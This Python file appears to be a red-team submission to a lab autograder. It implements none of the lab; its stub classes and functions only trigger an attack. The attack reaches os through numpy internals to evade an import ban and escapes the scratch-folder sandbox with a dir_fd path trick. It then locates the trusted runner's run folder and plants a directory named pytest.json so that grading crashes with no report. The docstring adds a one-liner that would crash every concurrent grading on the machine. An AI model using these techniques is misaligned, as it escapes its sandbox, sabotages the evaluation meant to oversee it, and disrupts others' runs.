"""Lab ch06 with no work of its own: it makes the grader itself crash.

WEAKNESS (grader/wall/worker.py lets os.mkdir out of the scratch folder; grader/runner.py reads
pytest.json without guarding against what it finds there): during the first test it creates a
folder named pytest.json in the trusted side's run folder (/tmp/labkit-run-*). pytest-json-report
cannot save its report there (it swallows the OSError), pytest exits 1 as usual, the runner sees
that pytest.json exists and reads it: IsADirectoryError escapes runner.run_tests and grade.grade,
and no report is produced. Without the care taken here to find its own run folder (it reads the
progress streams through dir_fd, see dirfd_write_outside.py), `for d in os.listdir("/tmp"):
os.mkdir(f"/tmp/{d}/pytest.json")` needs neither read nor write access and crashes every
grading running on the machine at that moment.
"""

import numpy as np

_os = np.lib._utils_impl.os
_sys = np._core.numeric.sys
json = _sys.modules["json"]  # loaded by the worker; `import json` is not allowed

_LAST_TEST = "test_xor_without_zeroing_overshoots"


def _outside(path, flags):
    """os.open of an absolute path anywhere, past the open check (dir_fd of a read root)."""
    stdlib = next(p for p in _sys.path if _os.path.isfile(_os.path.join(p, "os.py")))
    fd = _os.open(stdlib, _os.O_RDONLY)
    deep = "/".join(["d"] * (stdlib.count("/") + 2))
    _os.makedirs(deep, exist_ok=True)
    home = _os.getcwd()
    _os.chdir(deep)
    try:
        return _os.open("../" * stdlib.count("/") + path.lstrip("/"), flags, 0o644, dir_fd=fd)
    finally:
        _os.chdir(home)
        _os.close(fd)


def _read(path):
    fd = _outside(path, _os.O_RDONLY)
    try:
        chunks = []
        while chunk := _os.read(fd, 1 << 20):
            chunks.append(chunk)
        return b"".join(chunks).decode()
    finally:
        _os.close(fd)


def _my_run():
    """This grading's run folder: the first operation claims the only stream where the first test
    is running (leaving a marker named after its own scratch folder); later ones follow the marker."""
    mark = "labkit-redteam-" + _os.getcwd().split("/")[2]  # /tmp/labkit-wall-XXXX/run-N
    found = []
    for name in _os.listdir("/tmp"):
        if not name.startswith("labkit-run-"):
            continue
        folder = f"/tmp/{name}"
        try:
            events = [json.loads(line) for line in _read(folder + "/progress.jsonl").splitlines() if line]
            mine = mark in _os.listdir(folder)
        except BaseException:
            continue
        collected = next((e["tests"] for e in events if e.get("event") == "collected"), None)
        starts = [e["id"] for e in events if e.get("event") == "start"]
        running = None  # the test started last, if no result for it came after its start
        for e in events:
            if e.get("event") == "start":
                running = e["id"]
            elif e.get("event") == "result" and e.get("id") == running:
                running = None
        if not collected or running is None or any(e.get("event") == "submission" for e in events):
            continue
        if mine or (len(starts) == 1 and running == collected[0]["id"] and collected[-1]["id"] == _LAST_TEST):
            found.append((mine, folder, [t for t in collected if "points" in t], running))
    claimed = [f for f in found if f[0]]
    if claimed:
        return claimed[0]
    if len(found) == 1:
        _os.close(_outside(found[0][1] + "/" + mark, _os.O_WRONLY | _os.O_CREAT))
        return found[0]
    return None


_done = []


def _crash_the_grader():
    if _done:
        return
    _done.append(1)
    found = _my_run()
    if found is not None:
        _os.makedirs(found[1] + "/pytest.json", exist_ok=True)


def _attack(*args, **kwargs):
    try:
        _crash_the_grader()
    except BaseException:
        pass
    raise NotImplementedError("nothing here")


class Value:
    def __init__(self, *args, **kwargs):
        _attack()


class Tensor:
    def __init__(self, *args, **kwargs):
        _attack()


class GradcheckError(AssertionError):
    pass


numerical_grad = gradcheck = _attack
